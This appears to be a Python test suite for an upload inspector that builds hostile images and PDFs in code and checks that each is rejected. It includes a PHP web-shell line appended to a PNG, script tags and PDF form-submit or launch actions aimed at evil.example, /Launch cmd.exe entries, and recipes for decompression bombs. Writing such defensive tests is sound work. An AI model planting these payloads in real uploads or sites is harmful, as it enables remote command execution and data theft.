"""Upload inspection: every hostile file is crafted here, from Pillow, pypdf or raw bytes.

No binary fixtures live in the repository: each test shows how its file is built, so a reader
can see exactly which byte pattern a rule is about.
"""

from __future__ import annotations

import hashlib
import inspect
import io
import resource
import struct
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import ExifTags, Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from imigrasi.lib.uploads import CODES, CleanFile, UploadLimits, UploadRejected, inspect_upload

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


# --- builders ------------------------------------------------------------------------------


def jpeg(size: tuple[int, int] = (400, 300), mode: str = "RGB", **save: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "white" if mode != "CMYK" else (0, 0, 0, 0)).save(out, "JPEG", **save)
    return out.getvalue()


def png(size: tuple[int, int] = (300, 300), mode: str = "RGB", **save: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG", **save)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_from_header(width: int, height: int, idat: bytes | None = None) -> bytes:
    """A structurally valid PNG whose IHDR claims any size: no pixel buffer is ever built."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    idat = zlib.compress(b"\x00" * 1024) if idat is None else idat
    return PNG_MAGIC + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def png_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    chunks, pos = [], 8
    while pos < len(data):
        (length,) = struct.unpack_from(">I", data, pos)
        chunks.append((data[pos + 4 : pos + 8], data[pos + 8 : pos + 8 + length]))
        pos += 12 + length
    return chunks


def with_jpeg_comment(data: bytes, comment: bytes) -> bytes:
    """Insert a COM segment right after SOI."""
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def pdf(pages: int = 1, build: Callable[[PdfWriter], None] | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if build:
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def raw_pdf(objects: list[bytes], *, header: bytes = b"%PDF-1.7\n", root: int = 1) -> bytes:
    """Hand-written PDF: objects numbered from 1 and a classic cross-reference table."""
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def one_page(page_extra: bytes = b"", *more: bytes, catalog: bytes = CATALOG) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s >>"
    content = stream(b"BT /F1 12 Tf 72 720 Td (Paspor) Tj ET")
    return raw_pdf([catalog, PAGES, page % page_extra, content, *more])


def rejected(data: bytes, limits: UploadLimits | None = None) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(data, limits or UploadLimits())
    assert caught.value.code in CODES
    return caught.value


def accepted(data: bytes, limits: UploadLimits | None = None) -> CleanFile:
    clean = inspect_upload(data, limits or UploadLimits())
    assert clean.sha256 == hashlib.sha256(clean.content).hexdigest()
    return clean


# --- size and type ---------------------------------------------------------------------------


def test_the_api_has_no_name_or_declared_type_inputs() -> None:
    assert list(inspect.signature(inspect_upload).parameters) == ["data", "limits"]


def test_empty_upload() -> None:
    assert rejected(b"").code == "empty"


def test_over_max_bytes_is_refused_before_parsing() -> None:
    limits = UploadLimits(max_bytes=1000)
    assert rejected(b"\xff\xd8\xff" + b"\x00" * 1000, limits).code == "too_large"
    assert rejected(b"x" * (5 * 1024 * 1024 + 1)).code == "too_large"


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (300, 300)).save(out, "GIF")
    return out.getvalue()


def webp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (300, 300)).save(out, "WEBP")
    return out.getvalue()


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ktp.txt", "3273056010900009")
    return out.getvalue()


@pytest.mark.parametrize(
    "make",
    [
        gif,
        webp,
        zip_archive,
        lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 300,
        lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        lambda: b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 300,
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        lambda: b"Nama: Siti Rahmawati\nNIK: 3273056010900009\n",
    ],
    ids=["gif", "webp", "zip", "heic", "html", "exe", "svg", "text"],
)
def test_other_formats_are_unsupported(make: Callable[[], bytes]) -> None:
    assert rejected(make()).code == "unsupported_type"


def test_type_is_decided_by_content_a_pdf_called_jpg_is_a_pdf() -> None:
    uploaded_as_passport_jpg = pdf()
    clean = accepted(uploaded_as_passport_jpg)
    assert (clean.media_type, clean.extension, clean.pages) == ("application/pdf", ".pdf", 1)


# --- images --------------------------------------------------------------------------------


def test_jpeg_with_gps_is_accepted_upright_and_without_any_metadata() -> None:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # rotate 90° clockwise to display
    exif[ExifTags.Base.Make] = "Samsung"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "S"
    gps[ExifTags.GPS.GPSLatitude] = (6.0, 12.0, 30.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (106.0, 49.0, 0.0)
    original = jpeg((300, 200), exif=exif, comment=b"scanned at home", icc_profile=b"x" * 200)
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)

    clean = accepted(original)

    assert (clean.media_type, clean.extension) == ("image/jpeg", ".jpg")
    assert (clean.width, clean.height, clean.pages) == (200, 300, None)  # orientation applied
    with Image.open(io.BytesIO(clean.content)) as image:
        assert image.format == "JPEG"
        assert image.size == (200, 300)
        assert not image.getexif()
        assert not {"exif", "icc_profile", "comment", "xmp"} & set(image.info)
    for marker in (b"Exif\x00\x00", b"Samsung", b"scanned at home", b"ICC_PROFILE"):
        assert marker not in clean.content


def test_png_text_chunks_and_colour_profile_are_stripped() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Siti Rahmawati")
    info.add_text("Comment", "NIK 3273056010900009", zip=True)
    info.add_itxt("Description", "alamat rumah")
    original = png(pnginfo=info, icc_profile=b"p" * 200)
    assert b"tEXt" in original and b"iCCP" in original

    clean = accepted(original)

    assert (clean.media_type, clean.extension, clean.width, clean.height) == (
        "image/png",
        ".png",
        300,
        300,
    )
    kinds = {kind for kind, _ in png_chunks(clean.content)}
    assert kinds <= {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}
    assert b"Siti" not in clean.content


@pytest.mark.parametrize(
    "mode", ["1", "L", "LA", "P", "RGBA", "I;16"], ids=lambda mode: f"png-{mode}"
)
def test_png_modes_survive_the_re_encode(mode: str) -> None:
    clean = accepted(png((250, 210), mode))
    with Image.open(io.BytesIO(clean.content)) as image:
        image.load()
        assert image.size == (250, 210)


def test_cmyk_jpeg_becomes_rgb() -> None:
    clean = accepted(jpeg((300, 300), "CMYK"))
    with Image.open(io.BytesIO(clean.content)) as image:
        assert image.mode == "RGB"


def test_png_decompression_bomb_is_refused_from_the_header_without_allocating() -> None:
    bomb = png_from_header(50_000, 50_000)  # 2.5 gigapixels in a few hundred bytes
    assert len(bomb) < 200
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    error = rejected(bomb)
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before
    assert error.code == "image_too_large"
    assert grown_kib < 100 * 1024  # decoding would have needed 2.5 GB


def test_pillow_bomb_error_counts_even_when_our_limits_are_looser() -> None:
    loose = UploadLimits(max_pixels=10**12, max_side=10**6)
    assert rejected(png_from_header(50_000, 50_000), loose).code == "image_too_large"


def test_pillow_bomb_warning_is_an_error_whatever_the_global_warning_filter() -> None:
    loose = UploadLimits(max_pixels=10**12, max_side=10**6)
    over_pillow_limit = png_from_header(10_000, 9_000)  # 90 MP > Image.MAX_IMAGE_PIXELS
    assert Image.MAX_IMAGE_PIXELS is not None
    assert Image.MAX_IMAGE_PIXELS < 10_000 * 9_000
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert rejected(over_pillow_limit, loose).code == "image_too_large"
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert rejected(over_pillow_limit, loose).code == "image_too_large"
        assert accepted(jpeg()).width == 400  # a good file passes under -W error too


@pytest.mark.parametrize(
    ("size", "code"),
    [
        ((10, 10), "image_too_small"),
        ((199, 800), "image_too_small"),
        ((10_001, 200), "image_too_large"),
        ((200, 200), None),
    ],
)
def test_side_limits(size: tuple[int, int], code: str | None) -> None:
    for data in (jpeg(size, "L"), png(size, "L")):
        if code is None:
            assert accepted(data).width == size[0]
        else:
            assert rejected(data).code == code


def test_pixel_limit_uses_width_times_height() -> None:
    assert rejected(png((400, 300)), UploadLimits(max_pixels=100_000)).code == "image_too_large"


def test_truncated_jpeg_is_unreadable() -> None:
    data = jpeg((400, 300), quality=95)
    assert rejected(data[: len(data) // 2]).code == "image_unreadable"
    assert rejected(data[:-2]).code == "image_unreadable"  # EOI missing


def test_png_with_truncated_pixel_data_is_unreadable() -> None:
    noise = Image.effect_noise((300, 300), 80)
    out = io.BytesIO()
    noise.save(out, "PNG")
    parts = [
        png_chunk(kind, body[: len(body) // 2] if kind == b"IDAT" else body)
        for kind, body in png_chunks(out.getvalue())
    ]
    assert rejected(PNG_MAGIC + b"".join(parts)).code == "image_unreadable"


def test_png_with_a_bad_crc_is_unreadable() -> None:
    data = bytearray(png())
    data[30] ^= 0xFF  # inside the IHDR/IDAT area
    assert rejected(bytes(data)).code == "image_unreadable"


def test_png_without_pixels_is_unreadable() -> None:
    ihdr = struct.pack(">IIBBBBB", 300, 300, 8, 0, 0, 0, 0)
    data = PNG_MAGIC + png_chunk(b"IHDR", ihdr) + png_chunk(b"IEND", b"")
    assert rejected(data).code == "image_unreadable"


# --- polyglots -----------------------------------------------------------------------------


def test_jpeg_with_a_zip_appended_is_a_polyglot() -> None:
    error = rejected(jpeg() + zip_archive())
    assert error.code == "polyglot"
    assert "ZIP" in error.detail


def test_zip_central_directory_near_the_end_is_a_polyglot() -> None:
    # The end record hidden in a comment segment, so nothing follows the EOI marker.
    archive = zip_archive()
    assert rejected(with_jpeg_comment(jpeg(), archive[-22:])).code == "polyglot"


def test_png_with_data_after_iend_is_a_polyglot() -> None:
    assert rejected(png() + b"<?php system($_GET['c']); ?>").code == "polyglot"
    assert rejected(png() + b"\x01" * 8).code == "polyglot"


def test_trivial_padding_after_the_end_marker_is_tolerated() -> None:
    assert accepted(jpeg() + b"\x00" * 64).width == 400
    assert accepted(png() + b"\r\n").width == 300
    assert rejected(png() + b"\x00" * 5000).code == "polyglot"


def test_a_phone_vendor_trailer_after_a_jpeg_is_tolerated_and_dropped() -> None:
    # The shape of Samsung's SEFT block: opaque records, no known format, no markup.
    seft = b"SEFH" + bytes(range(7, 200)) * 3 + b"Image_UTC_Data1732851234000" + b"SEFT"
    clean = accepted(jpeg() + seft)
    assert b"SEFT" not in clean.content


def test_a_video_or_page_appended_to_a_jpeg_is_still_a_polyglot() -> None:
    motion_photo = b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 64
    assert rejected(jpeg() + motion_photo).code == "polyglot"
    assert rejected(jpeg() + b"\x01\x02 <html><body>hi</body></html>").code == "polyglot"


@pytest.mark.parametrize(
    "comment",
    [b"%PDF-1.7 1 0 obj", b"<script>alert(1)</script>", b"<HTML><BODY>", b"PK\x03\x04abc"],
)
def test_foreign_formats_inside_jpeg_metadata_are_polyglots(comment: bytes) -> None:
    assert rejected(with_jpeg_comment(jpeg(), comment)).code == "polyglot"


def test_html_inside_a_png_chunk_is_a_polyglot() -> None:
    chunks = png_chunks(png())
    evil = png_chunk(b"tEXt", b"Comment\x00<script src=//evil.example/x.js></script>")
    data = PNG_MAGIC + png_chunk(*chunks[0]) + evil + b"".join(png_chunk(*c) for c in chunks[1:])
    assert rejected(data).code == "polyglot"


def test_multi_picture_jpeg_from_a_phone_is_accepted_and_reduced_to_the_first_image() -> None:
    out = io.BytesIO()
    first = Image.new("RGB", (400, 300), "white")
    first.save(out, "MPO", save_all=True, append_images=[Image.new("L", (100, 75))])
    clean = accepted(out.getvalue())
    assert (clean.width, clean.height) == (400, 300)
    assert clean.content.count(b"\xff\xd8\xff") == 1


def test_second_jpeg_appended_without_multi_picture_index_is_a_polyglot() -> None:
    assert rejected(jpeg() + jpeg()).code == "polyglot"


def test_pdf_with_an_executable_appended_after_eof_is_a_polyglot() -> None:
    executable = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00"
    error = rejected(pdf() + executable)
    assert error.code == "polyglot"
    assert "executable" in error.detail


def test_pdf_with_a_zip_appended_is_a_polyglot() -> None:
    assert rejected(pdf() + zip_archive()).code == "polyglot"


def test_html_in_the_first_kilobyte_of_a_pdf_is_a_polyglot() -> None:
    data = pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<html><script>alert(1)</script>\n", 1)
    assert rejected(data).code == "polyglot"


def test_pdf_header_after_the_first_kilobyte_is_a_polyglot() -> None:
    assert rejected(b"A" * 2000 + pdf()).code == "polyglot"


def test_zip_in_front_of_a_pdf_header_is_a_polyglot() -> None:
    assert rejected(b"PK\x03\x04" + b"\x00" * 26 + pdf()).code == "polyglot"


def test_pdf_header_inside_an_image_is_a_polyglot() -> None:
    chunks = png_chunks(png())
    private = png_chunk(b"prVt", pdf())  # an unknown ancillary chunk carrying a whole PDF
    data = PNG_MAGIC + png_chunk(*chunks[0]) + private + b"".join(png_chunk(*c) for c in chunks[1:])
    assert rejected(data).code == "polyglot"
    assert rejected(png() + pdf()).code == "polyglot"


def test_markup_in_uncompressed_pixel_data_is_a_polyglot() -> None:
    # Stored (level 0) deflate with filter type 0 puts pixel bytes verbatim into IDAT.
    first_row = b"<script src=//evil.example/x.js></script>".ljust(300, b"\xff")
    rows = b"\x00" + first_row + (b"\x00" + b"\xff" * 300) * 299
    data = png_from_header(300, 300, zlib.compress(rows, 0))
    error = rejected(data)
    assert error.code == "polyglot"
    assert "<script" in error.detail


def test_a_little_junk_before_the_pdf_header_is_tolerated_and_dropped() -> None:
    clean = accepted(b"\r\n" + b" " * 100 + pdf())
    assert clean.content.startswith(b"%PDF-")


# --- PDF -----------------------------------------------------------------------------------


def test_clean_pdf_is_rewritten_without_info_or_xmp() -> None:
    xmp = (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
        b"<dc:creator><rdf:Seq><rdf:li>Siti Rahmawati</rdf:li></rdf:Seq></dc:creator>"
        b'</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    )

    def build(writer: PdfWriter) -> None:
        writer.add_metadata({"/Author": "Siti Rahmawati", "/Creator": "HP ScanJet kantor"})
        writer.xmp_metadata = xmp

    original = pdf(2, build)
    assert b"Siti Rahmawati" in original

    clean = accepted(original)

    assert (clean.media_type, clean.extension, clean.pages) == ("application/pdf", ".pdf", 2)
    assert (clean.width, clean.height) == (None, None)
    assert b"Siti" not in clean.content and b"ScanJet" not in clean.content
    reader = PdfReader(io.BytesIO(clean.content), strict=True)
    assert reader.metadata is None
    assert reader.xmp_metadata is None
    assert len(reader.pages) == 2
    assert float(reader.pages[0].mediabox.width) == 595


def test_rewrite_drops_page_metadata_private_data_and_unreferenced_objects() -> None:
    data = one_page(
        b"/Metadata 5 0 R /PieceInfo << /Illustrator << /Private 6 0 R >> >>",
        stream(b"<x:xmpmeta>page-level author Siti</x:xmpmeta>", b"/Type /Metadata"),
        stream(b"the whole original artwork"),
        b"(an earlier revision: NIK 3273056010900009)",  # object 7: referenced by nothing
    )
    clean = accepted(data)
    for leftover in (b"Siti", b"artwork", b"3273056010900009", b"/PieceInfo"):
        assert leftover not in clean.content
    page = PdfReader(io.BytesIO(clean.content), strict=True).pages[0]
    contents = page.get_contents()
    assert contents is not None
    assert b"Paspor" in contents.get_data()  # the page itself is intact


def test_encrypted_pdf_is_refused() -> None:
    assert rejected(pdf(build=lambda w: w.encrypt("rahasia"))).code == "pdf_encrypted"
    # Owner-password-only ("cannot print/copy") files open without a password: still refused.
    only_owner = pdf(build=lambda w: w.encrypt("", "pemilik", algorithm="AES-128"))
    assert rejected(only_owner).code == "pdf_encrypted"


def _open_action_js(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hi')"),
        }
    )
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _names_tree_js(writer: PdfWriter) -> None:
    writer.add_open_action(JavaScript("this.print({bUI:false})"))


def _attachment(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ" + b"\x00" * 100)


def _page_additional_action(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): DictionaryObject({NameObject("/S"): NameObject("/GoTo")})}
    )


def _annotation(action: str, **extra: Any) -> Callable[[PdfWriter], None]:
    def build(writer: PdfWriter) -> None:
        entries: dict[Any, Any] = {NameObject("/S"): NameObject(action)}
        entries.update({NameObject(f"/{k}"): TextStringObject(v) for k, v in extra.items()})
        writer.add_annotation(
            0,
            DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/Link"),
                    NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 99, 99)]),
                    NameObject("/A"): DictionaryObject(entries),
                }
            ),
        )

    return build


def _xfa_form(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): TextStringObject("<xdp:xdp/>"),
        }
    )


def _open_action_uri(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): TextStringObject("https://evil.example/"),
        }
    )


@pytest.mark.parametrize(
    "build",
    [
        _open_action_js,
        _names_tree_js,
        _attachment,
        _page_additional_action,
        _annotation("/Launch", F="cmd.exe"),
        _annotation("/SubmitForm", F="https://evil.example/collect"),
        _annotation("/ImportData", F="data.fdf"),
        _annotation("/URI", URI="javascript:app.alert(1)"),
        _xfa_form,
        _open_action_uri,
    ],
    ids=[
        "open-action-js",
        "names-tree-js",
        "embedded-file",
        "page-aa",
        "launch",
        "submit-form",
        "import-data",
        "javascript-uri",
        "xfa",
        "open-action-uri",
    ],
)
def test_active_content_is_refused(build: Callable[[PdfWriter], None]) -> None:
    assert rejected(pdf(build=build)).code == "pdf_active_content"


def test_javascript_with_an_escaped_name_in_the_names_tree_is_found() -> None:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 5 0 R >> >>"
    js_tree = b"<< /Names [(x) << /S /JavaScript /J#53 (app.alert\\(1\\)) >>] >>"
    assert rejected(one_page(b"", js_tree, catalog=catalog)).code == "pdf_active_content"


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """PDF 1.5 with `hidden` as object 6, compressed inside object stream 5 (xref stream 7)."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    content = stream(b"BT ET")
    packed = b"6 0 " + hidden
    objstm = stream(zlib.compress(packed), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    for number, body in [
        (1, CATALOG),
        (2, PAGES),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"),
        (4, content),
        (5, objstm),
    ]:
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[7] = len(out)
    rows = b"\x00\x00\x00\x00\x00\xff\xff"  # object 0: free
    for number in range(1, 8):
        if number == 6:
            rows += b"\x02" + struct.pack(">IH", 5, 0)  # in object stream 5, index 0
        else:
            rows += b"\x01" + struct.pack(">IH", offsets[number], 0)
    xref = stream(rows, b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R")
    out += b"7 0 obj\n" + xref + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[7]
    return bytes(out)


def test_javascript_compressed_inside_an_object_stream_is_found() -> None:
    harmless = pdf_with_object_stream(b"<< /Kind /Note >>")
    assert accepted(harmless).pages == 1  # the hand-made file itself is valid
    hidden = pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    assert b"JavaScript" not in hidden  # invisible to a byte search
    assert rejected(hidden).code == "pdf_active_content"


def test_javascript_in_an_unreferenced_object_is_found() -> None:
    orphan = b"<< /S /JavaScript /JS (app.launchURL\\('https://evil.example'\\)) >>"
    assert rejected(one_page(b"", orphan)).code == "pdf_active_content"


def test_javascript_inside_an_annotation_is_found() -> None:
    annots = b"/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A 5 0 R >>]"
    action = b"<< /S /JavaScript /JS 6 0 R >>"
    assert rejected(one_page(annots, action, stream(b"app.alert(1)"))).code == (
        "pdf_active_content"
    )


def test_open_action_to_a_page_and_web_links_are_fine() -> None:
    def build(writer: PdfWriter) -> None:
        first = writer.pages[0].indirect_reference
        writer.root_object[NameObject("/OpenAction")] = ArrayObject([first, NameObject("/Fit")])
        _annotation("/URI", URI="https://imigrasi.go.id/")(writer)

    assert accepted(pdf(build=build)).pages == 1


def test_scan_saved_as_pdf_by_an_image_program_is_accepted() -> None:
    out = io.BytesIO()
    page = Image.effect_noise((620, 877), 60).convert("RGB")
    page.save(out, "PDF", resolution=75, save_all=True, append_images=[page.convert("L")])
    clean = accepted(out.getvalue())
    assert clean.pages == 2
    reader = PdfReader(io.BytesIO(clean.content), strict=True)
    images: Any = reader.pages[0]["/Resources"]["/XObject"]  # type: ignore[index]
    assert [image["/Subtype"] for image in images.values()] == ["/Image"]


def test_too_many_pages() -> None:
    assert accepted(pdf(20)).pages == 20
    error = rejected(pdf(25))
    assert error.code == "pdf_too_many_pages"
    assert "25" in error.detail


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 4,
        b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\nstartxref\n9\n%%EOF\n",
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n",
        pdf()[:-60] + b"%%EOF\n",  # cross-reference table cut off
        one_page().replace(b"/Length 37", b"/Length 99"),  # stream length lies
        one_page(b"/Z 5 0 R", stream(b"x\x9c" + bytes(range(256)) * 64, b"/Filter /FlateDecode")),
        raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
    ],
    ids=[
        "garbage",
        "garbage-with-eof",
        "no-xref",
        "truncated",
        "bad-length",
        "damaged-stream",
        "no-pages",
    ],
)
def test_malformed_pdf_is_unreadable(data: bytes) -> None:
    assert rejected(data).code == "pdf_unreadable"


@cache
def zeros_deflated(size: int) -> bytes:
    compressor = zlib.compressobj(9)
    block = b"\x00" * (1024 * 1024)
    parts = [compressor.compress(block) for _ in range(size // len(block))]
    return b"".join(parts) + compressor.flush()


def bomb_pdf(*inflated_sizes: int) -> bytes:
    """One page whose extra streams (objects 5, 6, ...) inflate to the given sizes."""
    extras = [stream(zeros_deflated(size), b"/Filter /FlateDecode") for size in inflated_sizes]
    refs = b" ".join(b"%d 0 R" % (5 + i) for i in range(len(extras)))
    return one_page(b"/Resources << /Private [%s] >>" % refs, *extras)


def test_pdf_zip_bomb_is_refused_early() -> None:
    bomb = bomb_pdf(64 * 1024 * 1024)  # 64 MiB of zeros in ~64 KiB
    assert len(bomb) < 100_000
    tracemalloc.start()
    try:
        error = rejected(bomb, UploadLimits(max_pdf_stream_bytes=1024 * 1024))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert error.code == "pdf_too_large"
    assert peak < 16 * 1024 * 1024  # stopped near the 1 MiB budget, not at 64 MiB
    assert rejected(bomb).code == "pdf_too_large"  # and over the default 50 MiB, too


def test_pdf_stream_budget_is_a_total_over_all_streams() -> None:
    two = bomb_pdf(1024 * 1024, 1024 * 1024)
    assert rejected(two, UploadLimits(max_pdf_stream_bytes=1536 * 1024)).code == "pdf_too_large"
    assert accepted(two, UploadLimits(max_pdf_stream_bytes=4 * 1024 * 1024)).pages == 1


# --- robustness ----------------------------------------------------------------------------


@settings(max_examples=200, deadline=None)
@given(
    prefix=st.sampled_from([b"", b"\xff\xd8\xff", PNG_MAGIC, b"%PDF-1.7\n", b"%PDF-1.4\n%\xe2"]),
    body=st.binary(max_size=512),
)
def test_random_bytes_only_ever_raise_upload_rejected(prefix: bytes, body: bytes) -> None:
    try:
        inspect_upload(prefix + body)
    except UploadRejected as error:
        assert error.code in CODES


@cache
def seed_files() -> tuple[bytes, ...]:
    photo = io.BytesIO()
    Image.effect_noise((200, 200), 40).convert("RGB").save(photo, "JPEG", quality=70)
    return (photo.getvalue(), png((200, 200), "L"), one_page())


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    which=st.integers(0, 2),
    flips=st.lists(st.tuples(st.integers(0, 10**6), st.integers(0, 255)), max_size=6),
    cut=st.none() | st.integers(1, 10**6),
)
def test_damaged_good_files_only_ever_raise_upload_rejected(
    which: int, flips: list[tuple[int, int]], cut: int | None
) -> None:
    data = bytearray(seed_files()[which])
    for position, value in flips:
        data[position % len(data)] = value
    if cut is not None:
        data = data[: cut % len(data) + 1]
    try:
        clean = inspect_upload(bytes(data))
    except UploadRejected as error:
        assert error.code in CODES
    else:
        assert clean.media_type in ("image/jpeg", "image/png", "application/pdf")


def test_truncated_images_fail_even_after_a_library_relaxed_pillow_globally() -> None:
    from PIL import ImageFile

    ImageFile.LOAD_TRUNCATED_IMAGES = True  # what importing WeasyPrint does
    try:
        test_png_with_truncated_pixel_data_is_unreadable()
    finally:
        ImageFile.LOAD_TRUNCATED_IMAGES = False
